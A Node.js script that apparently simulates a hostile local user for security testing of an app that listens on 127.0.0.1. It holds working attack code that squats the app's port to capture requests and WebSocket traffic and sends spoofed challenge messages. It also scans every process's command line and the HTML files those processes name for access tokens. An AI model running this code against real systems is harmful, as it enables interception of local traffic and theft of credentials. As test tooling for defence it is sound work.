/**
 * Another user of this computer, as an attacker would be one. Commands come on argv; what it finds goes to stdout, one
 * JSON object per line. Read from stdin by Node, because a stranger may not be able to read the project's folder.
 */
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';

const say = (line) => process.stdout.write(`${JSON.stringify(line)}\n`);
const [act, ...args] = process.argv.slice(2);

/** Listens where the app was, takes every request and every socket, and tells all that it was sent. */
function squat(port) {
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (part) => {
      body += part;
    });
    request.on('end', () => {
      say({ kind: 'request', ...headOf(request), body });
      response.writeHead(request.url === '/whoami' ? 204 : 200).end();
    });
  });
  server.on('upgrade', (request, socket) => {
    say({ kind: 'upgrade', ...headOf(request) });
    const key = `${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`;
    const accept = createHash('sha1').update(key).digest('base64');
    const protocol = String(request.headers['sec-websocket-protocol'] ?? '').split(',')[0];
    const head = [
      'HTTP/1.1 101 Switching Protocols',
      'Upgrade: websocket',
      'Connection: Upgrade',
      `Sec-WebSocket-Accept: ${accept}`,
      `Sec-WebSocket-Protocol: ${protocol}`,
    ];
    socket.write(`${head.join('\r\n')}\r\n\r\n`);
    for (const text of CHALLENGES) socket.write(frameOf(text));
    socket.on('data', (bytes) => say({ kind: 'bytes', base64: bytes.toString('base64') }));
    socket.on('error', () => {});
  });
  server.listen({ port, host: '127.0.0.1', exclusive: true }, () => say({ kind: 'listening' }));
}

/** What it tries in order to be told more: a proof of nothing, and a call as the server would make it. */
const CHALLENGES = [
  JSON.stringify({ nonce: 'A'.repeat(43), proof: 'A'.repeat(86) }),
  JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'system.listComponents', params: [] }),
];

/** A short unmasked text frame. */
function frameOf(text) {
  const payload = Buffer.from(text);
  const length = payload.length < 126 ? [payload.length] : [126, payload.length >> 8, payload.length & 0xff];
  return Buffer.concat([Buffer.from([0x81, ...length]), payload]);
}

function headOf({ method, url, rawHeaders }) {
  return { method, url, rawHeaders };
}

/** Looks at the arguments of every process, again and again, for whatever lets one in; and into what they name. */
function watchArguments() {
  const seen = new Set();
  const look = () => {
    for (const pid of readdirSync('/proc')) {
      if (!/^\d+$/.test(pid) || Number(pid) === process.pid) continue;
      for (const word of wordsOf(pid)) {
        if (seen.has(word)) continue;
        seen.add(word);
        const isPage = word.endsWith('.html');
        const secret = secretIn(word) ?? (isPage ? secretIn(readOrEmpty(word.replace(/^file:\/\//, ''))) : null);
        if (isPage || word.includes('127.0.0.1')) say({ kind: 'argument', word });
        if (secret) say({ kind: 'secret', secret, word });
      }
    }
    setImmediate(look);
  };
  say({ kind: 'watching' });
  look();
}

function wordsOf(pid) {
  return readOrEmpty(`/proc/${pid}/cmdline`).split('\0');
}

function readOrEmpty(path) {
  try {
    return path.startsWith('/') ? readFileSync(path, 'utf8') : '';
  } catch {
    return '';
  }
}

function secretIn(text) {
  return /#(?:token|ticket)=([\w-]{43})/.exec(text)?.[1] ?? null;
}

if (act === 'squat') squat(Number(args[0]));
if (act === 'watch') watchArguments();
